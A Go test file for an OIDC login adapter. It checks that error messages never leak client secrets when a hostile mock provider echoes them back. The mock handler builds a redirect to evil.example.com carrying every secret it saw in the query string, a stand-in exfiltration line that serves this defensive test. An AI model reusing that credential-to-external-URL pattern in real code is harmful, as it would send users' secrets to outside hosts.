package oidc_test

import (
	"encoding/json"
	"errors"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"cz-visa-monitor/adapters/oidc"
	"cz-visa-monitor/adapters/oidc/oidctest"
)

// checkSecrets greps err for everything secret that passed through server.
func checkSecrets(t *testing.T, server *oidctest.Server, err error) {
	t.Helper()
	secrets := server.Secrets()
	if len(secrets) < 3 {
		t.Errorf("only %d secrets passed through; is the check in vain?", len(secrets))
	}
	for ; err != nil; err = errors.Unwrap(err) {
		for _, s := range secrets {
			if strings.Contains(err.Error(), s) || strings.Contains(err.Error(), url.QueryEscape(s)) {
				t.Errorf("the error tells a secret: %v", err)
			}
		}
	}
}

// TestNoSecretInErrors: a provider that repeats everything in every answer.
func TestNoSecretInErrors(t *testing.T) {
	t.Parallel()
	for _, endpoint := range []oidctest.Endpoint{oidctest.Token, oidctest.UserInfo, oidctest.Keys, oidctest.Discovery} {
		for _, kind := range []string{"application/json", "text/plain", "text/html", "application/jwt"} {
			for _, status := range []int{200, 302, 400, 401, 500} {
				t.Run(string(endpoint)+" "+kind+" "+http.StatusText(status), func(t *testing.T) {
					t.Parallel()
					server, p := start(t, quick())
					state, query := begin(t, p)
					if endpoint == oidctest.Discovery {
						p = newProvider(t, oidc.Config{Issuer: server.Issuer(), ClientID: "visa", ClientSecret: secret, RedirectURL: callback})
					}
					server.Break(endpoint, func(w http.ResponseWriter, r *http.Request) {
						_ = r.ParseForm()
						all := strings.Join(append(server.Secrets(), r.Header.Get("Authorization"), r.PostForm.Encode()), " ")
						w.Header().Set("Content-Type", kind)
						w.Header().Set("Location", "https://evil.example.com/?all="+url.QueryEscape(all))
						w.WriteHeader(status)
						_ = json.NewEncoder(w).Encode(map[string]string{"error": all, "error_description": all, "sub": all, "issuer": all, "access_token": all, "id_token": all + "..", "keys": all})
					})
					_, err := p.Finish(t.Context(), state, query)
					if err == nil {
						t.Fatal("the login went through")
					}
					if endpoint == oidctest.Discovery && status == 200 {
						return // The provider's name for itself is shown, cut: it is public.
					}
					checkSecrets(t, server, err)
				})
			}
		}
	}
}
